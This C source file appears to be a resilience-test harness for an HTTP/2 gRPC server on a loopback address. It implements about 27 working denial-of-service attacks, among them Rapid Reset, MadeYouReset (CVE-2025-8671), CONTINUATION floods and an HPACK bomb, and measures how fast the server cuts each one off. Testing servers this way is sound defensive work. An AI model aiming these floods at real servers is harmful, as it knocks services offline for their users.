// flood PORT ATTACK SECONDS: one attacker that sends as fast as one core can, and connects again whenever it is cut.
//
// Prints figures, one `name value` per line: connections, cut, frames, and for the connections that were cut how long after
// the first hostile byte (milliseconds, without those in which the machine did not let the attacker run) and after how many frames. `uncut` is the age of the connection still open at the end.
#include "wire.h"

#define ROOM (256 * 1024)

struct attacker {
    uint32_t stream;
    uint64_t frames, step;
};

static uint8_t *open_stream(struct attacker *a, uint8_t *p, uint8_t flags) {
    uint8_t *start = p;
    p += 9;
    p = a->stream == 1 ? put_request(p, 0x40, "/grpc.testing.TestService/FullDuplexCall") : put_known_request(p);
    put_head(start, p - start - 9, HEADERS, flags | END_HEADERS, a->stream);
    a->stream += 2;
    a->frames++;
    return p;
}

#define LAST (a->stream - 2)
#define ATTACK(name) static uint8_t *name(struct attacker *a, uint8_t *p)

ATTACK(rapid_reset) {
    p = open_stream(a, p, 0);
    a->frames++;
    return put_number_frame(p, RST_STREAM, LAST, 8);
}

// MadeYouReset (CVE-2025-8671): the server is made to reset what the client opened.
ATTACK(reset_by_window_overflow) {
    p = open_stream(a, p, 0);
    a->frames++;
    return put_number_frame(p, WINDOW_UPDATE, LAST, 0x7fffffff);
}

ATTACK(reset_by_window_zero) {
    p = open_stream(a, p, 0);
    a->frames++;
    return put_number_frame(p, WINDOW_UPDATE, LAST, 0);
}

ATTACK(reset_by_bad_field) {
    uint8_t *start = p;
    p = put_field(put_request(p + 9, 0x00, "/grpc.testing.TestService/FullDuplexCall"), 0x00, "Upper", "x");
    put_head(start, p - start - 9, HEADERS, END_HEADERS, a->stream);
    a->stream += 2, a->frames++;
    return p;
}

ATTACK(reset_by_content_length) {
    uint8_t *start = p;
    p = put_field(put_request(p + 9, 0x00, "/grpc.testing.TestService/FullDuplexCall"), 0x00, "content-length", "1");
    put_head(start, p - start - 9, HEADERS, END_HEADERS, a->stream);
    p = put_frame(p, DATA, 0, a->stream, "many", 4);
    a->stream += 2, a->frames += 2;
    return p;
}

ATTACK(reset_by_priority) {
    p = put_head(p, 11, HEADERS, END_HEADERS | 0x20, a->stream);
    p = put_known_request(put_bytes(put32(p, a->stream), "\x10", 1));
    a->stream += 2, a->frames++;
    return p;
}

ATTACK(reset_by_half_close) {
    p = open_stream(a, p, END_STREAM);
    a->frames++;
    return put_frame(p, DATA, 0, LAST, "more", 4);
}

// Without acknowledging SETTINGS, what is over the limit of streams is refused one by one.
ATTACK(reset_by_refusal) { return open_stream(a, p, 0); }

ATTACK(reset_by_settings) {
    if (a->step++ == 0)
        for (int n = 0; n < 100; n++) p = put_number_frame(open_stream(a, p, 0), WINDOW_UPDATE, LAST, 0x7fff0000);
    a->frames++;
    return put_frame(p, SETTINGS, 0, 0, a->step % 2 ? "\0\4\x7f\xff\xff\xff" : "\0\4\0\0\xff\xff", 6);
}

ATTACK(refused_calls) {
    uint8_t *start = p;
    p = put_request(p + 9, 0x00, "/no.such/Method");
    put_head(start, p - start - 9, HEADERS, END_HEADERS, a->stream);
    a->stream += 2, a->frames++;
    return p;
}

static uint8_t *begin_block(struct attacker *a, uint8_t *p) {
    if (a->step++ > 0) return p;
    uint8_t *start = p;
    p = put_request(p + 9, 0x00, "/grpc.testing.TestService/FullDuplexCall");
    put_head(start, p - start - 9, HEADERS, 0, a->stream);
    a->frames++;
    return p;
}

ATTACK(continuation_flood) {
    p = put_head(begin_block(a, p), 8, CONTINUATION, 0, a->stream);
    a->frames++;
    return put_field(p, 0x00, "x-y", "z");
}

ATTACK(continuation_empty) {
    a->frames++;
    return put_head(begin_block(a, p), 0, CONTINUATION, 0, a->stream);
}

ATTACK(ping_flood) {
    a->frames++;
    return put_frame(p, PING, 0, 0, "12345678", 8);
}

ATTACK(settings_flood) {
    a->frames++;
    return put_frame(p, SETTINGS, 0, 0, "", 0);
}

ATTACK(settings_full) {
    a->frames++;
    p = put_head(p, 6 * 32, SETTINGS, 0, 0);
    for (int n = 0; n < 32; n++) p = put32(put_bytes(p, "\0\4", 2), 65535 + n);
    return p;
}

ATTACK(priority_flood) {
    a->frames++;
    return put_frame(p, PRIORITY, 0, 1 + 2 * (a->step++ % 1000000), "\0\0\0\0\x10", 5);
}

static uint8_t *one_stream(struct attacker *a, uint8_t *p) { return a->step++ == 0 ? open_stream(a, p, 0) : p; }

ATTACK(empty_data) {
    a->frames++;
    return put_head(one_stream(a, p), 0, DATA, 0, 1);
}

ATTACK(padding_only) {
    a->frames++;
    return put_frame(one_stream(a, p), DATA, PADDED, 1, "\0", 1);
}

ATTACK(unknown_frames) {
    a->frames++;
    return put_frame(p, 0x42, 0, 0, "what?", 5);
}

ATTACK(window_updates) {
    a->frames++;
    return put_number_frame(one_stream(a, p), WINDOW_UPDATE, a->step % 2, 1);
}

ATTACK(late_resets) {
    if (a->step++ == 0) p = put_number_frame(open_stream(a, p, 0), RST_STREAM, 1, 8);
    a->frames++;
    return put_number_frame(p, RST_STREAM, 1, 8);
}

ATTACK(goaway_flood) {
    a->frames++;
    return put_frame(p, GOAWAY, 0, 0, "\0\0\0\0\0\0\0\0", 8);
}

// A header list of some 100 kB for each call.
ATTACK(header_oversize) {
    static uint8_t value[16000];
    memset(value, 'v', sizeof value);
    for (int part = 0; part < 6; part++) {
        uint8_t *start = p;
        p += 9;
        if (part == 0) p = put_request(p, 0x00, "/grpc.testing.TestService/FullDuplexCall");
        p = put_text(put_bytes(p, "\0", 1), "x-large");
        p = put_bytes(p, "\x7f\x81\x7c", 3);  // 16,000 = 127 + 15,873
        p = put_bytes(p, value, sizeof value);
        put_head(start, p - start - 9, part == 0 ? HEADERS : CONTINUATION, part == 5 ? END_HEADERS : 0, a->stream);
        a->frames++;
    }
    a->stream += 2;
    return p;
}

// One entry of nearly 4 kB in the table, named 16,000 times by one byte each: 64 MB a frame.
ATTACK(hpack_bomb) {
    static uint8_t references[16000];
    uint8_t *start = p;
    p = put_request(p + 9, 0x00, "/grpc.testing.TestService/FullDuplexCall");
    if (a->stream == 1) {
        p = put_text(put_bytes(p, "\x40", 1), "x-bomb");
        p = put_bytes(p, "\x7f\xa1\x1e", 3);  // 4,000 = 127 + 3,873
        memset(p, 'b', 4000);
        p += 4000;
        put_head(start, p - start - 9, HEADERS, END_HEADERS | END_STREAM, a->stream);
    } else {
        memset(references, 0xbe, sizeof references);
        p = put_bytes(p, references, sizeof references);
        put_head(start, p - start - 9, HEADERS, END_HEADERS | END_STREAM, a->stream);
    }
    a->stream += 2, a->frames++;
    return p;
}

// One message of 4 MB, a byte a frame.
ATTACK(data_dribble) {
    p = one_stream(a, p);
    a->frames++;
    if (a->step == 2) return put_frame(p, DATA, 0, 1, "\0\0\x3f\xff\xff", 5);
    return put_frame(p, DATA, 0, 1, "\x1a", 1);
}

// The last stream number at once: nothing more can be asked on such a connection.
ATTACK(stream_ids_used_up) {
    if (a->step++ == 0) a->stream = 0x7fffffff;
    uint8_t *start = p;
    p = put_request(p + 9, 0x00, "/grpc.testing.TestService/FullDuplexCall");
    put_head(start, p - start - 9, HEADERS, END_HEADERS | END_STREAM, a->stream);
    a->stream = 1, a->frames++;
    return p;
}

// Frames of every kind with chance inside: most connections end at the first, some live on for a while.
ATTACK(malformed_frames) {
    static uint64_t state = 0x5eed;
    state ^= state << 13, state ^= state >> 7, state ^= state << 17;
    uint64_t chance = state;
    uint8_t *start = p;
    p += 9;
    if (chance % 4 == 0) p = put_request(p, 0x00, "/grpc.testing.TestService/FullDuplexCall");
    for (int n = chance >> 8 & 31; n > 0; n--) {
        state ^= state << 13, state ^= state >> 7, state ^= state << 17;
        *p++ = state;
    }
    uint32_t length = p - start - 9 + (chance >> 16 & 63 ? 0 : 1);
    put_head(start, length, chance % 4 == 0 ? HEADERS : chance >> 24 & 15, chance >> 32 & 15, chance % 4 == 0 ? a->stream : chance >> 40 & 31);
    if (chance % 4 == 0) a->stream += 2;
    a->frames++;
    return p;
}

struct attack {
    const char *name;
    uint8_t *(*fill)(struct attacker *, uint8_t *);
    size_t largest;
    int mute;
};

#define SMALL(attack) {#attack, attack, 4096, 0}
static const struct attack attacks[] = {
    SMALL(rapid_reset), SMALL(reset_by_window_overflow), SMALL(reset_by_window_zero), SMALL(reset_by_bad_field),
    SMALL(reset_by_content_length), SMALL(reset_by_priority), SMALL(reset_by_half_close), {"reset_by_refusal", reset_by_refusal, 4096, 1},
    SMALL(reset_by_settings), SMALL(refused_calls), SMALL(continuation_flood), SMALL(continuation_empty), SMALL(ping_flood),
    SMALL(settings_flood), SMALL(settings_full), SMALL(priority_flood), SMALL(empty_data), SMALL(padding_only), SMALL(unknown_frames),
    SMALL(window_updates), SMALL(late_resets), SMALL(goaway_flood), {"header_oversize", header_oversize, 110000, 0},
    {"hpack_bomb", hpack_bomb, 20000, 0}, SMALL(data_dribble), SMALL(stream_ids_used_up), SMALL(malformed_frames),
};

static uint64_t connections, cuts, all_frames;
static double worst_ms, sum_ms;
static uint64_t worst_frames, over_both;

// Milliseconds in which this process could have run and another did: its own lateness, which is none of the server's.
static double starved(void) {
    static int fd = -1;
    char text[128] = "";
    double running = 0, waiting = 0;
    if (fd < 0) fd = open("/proc/self/schedstat", O_RDONLY);
    if (fd < 0 || pread(fd, text, sizeof text - 1, 0) <= 0 || sscanf(text, "%lf %lf", &running, &waiting) != 2) return 0;
    return waiting / 1e6;
}

// One connection until it is cut or the time is over. Returns its age if it was not cut.
static double attack_once(const struct attack *attack, int port, double end) {
    static uint8_t out[ROOM], in[65536];
    int fd = dial("127.0.0.2", port, 0);
    if (fd < 0) {
        usleep(1000);
        return 0;
    }
    connections++;
    struct attacker a = {.stream = 1};
    uint8_t *p = put_bytes(out, PREFACE, 24);
    p = put_head(p, 0, SETTINGS, 0, 0);
    if (!attack->mute) p = put_head(p, 0, SETTINGS, ACK, 0);
    double first = now(), delay = starved();
    size_t at = 0, count = p - out;
    int alive = 1;
    while (alive && now() < end) {
        if (at == count) {
            at = 0, p = out;
            size_t room = attack->largest > 4096 ? ROOM : 32768;
            while ((size_t)(p - out) + attack->largest < room && a.stream < 0x7fffffff) p = attack->fill(&a, p);
            count = p - out;
        }
        struct pollfd waiting = {fd, POLLIN | POLLOUT, 0};
        poll(&waiting, 1, 100);
        if (waiting.revents & POLLIN) {
            ssize_t got = read(fd, in, sizeof in);
            if (got == 0 || (got < 0 && errno != EAGAIN)) alive = 0;
        } else if (waiting.revents & (POLLERR | POLLHUP)) {
            alive = 0;
        }
        if (alive && waiting.revents & POLLOUT) {
            ssize_t sent = write(fd, out + at, count - at);
            if (sent > 0) at += sent;
            if (sent < 0 && errno != EAGAIN) alive = 0;
        }
    }
    double age = (now() - first) * 1000 - (starved() - delay);
    all_frames += a.frames;
    close(fd);
    if (alive) return age;
    cuts++;
    sum_ms += age;
    if (age > worst_ms) worst_ms = age;
    if (a.frames > worst_frames) worst_frames = a.frames;
    if (age > 1000 && a.frames > 200) over_both++;
    return 0;
}

int main(int count, char **arguments) {
    if (count == 2 && !strcmp(arguments[1], "list")) {
        for (size_t n = 0; n < sizeof attacks / sizeof *attacks; n++) puts(attacks[n].name);
        return 0;
    }
    if (count != 4) return fprintf(stderr, "usage: flood PORT ATTACK SECONDS\n"), 64;
    signal(SIGPIPE, SIG_IGN);
    const struct attack *attack = NULL;
    for (size_t n = 0; n < sizeof attacks / sizeof *attacks; n++)
        if (!strcmp(attacks[n].name, arguments[2])) attack = &attacks[n];
    if (!attack) return fprintf(stderr, "flood: no attack %s\n", arguments[2]), 64;
    double end = now() + atof(arguments[3]), uncut = 0;
    while (now() < end) uncut = attack_once(attack, atoi(arguments[1]), end);
    printf("connections %lu\ncut %lu\nframes %lu\nworst_cut_ms %.1f\nmean_cut_ms %.2f\nworst_cut_frames %lu\nlate_cuts %lu\nuncut_ms %.0f\n",
           connections, cuts, all_frames, worst_ms, cuts ? sum_ms / cuts : 0, worst_frames, over_both, uncut);
    return 0;
}
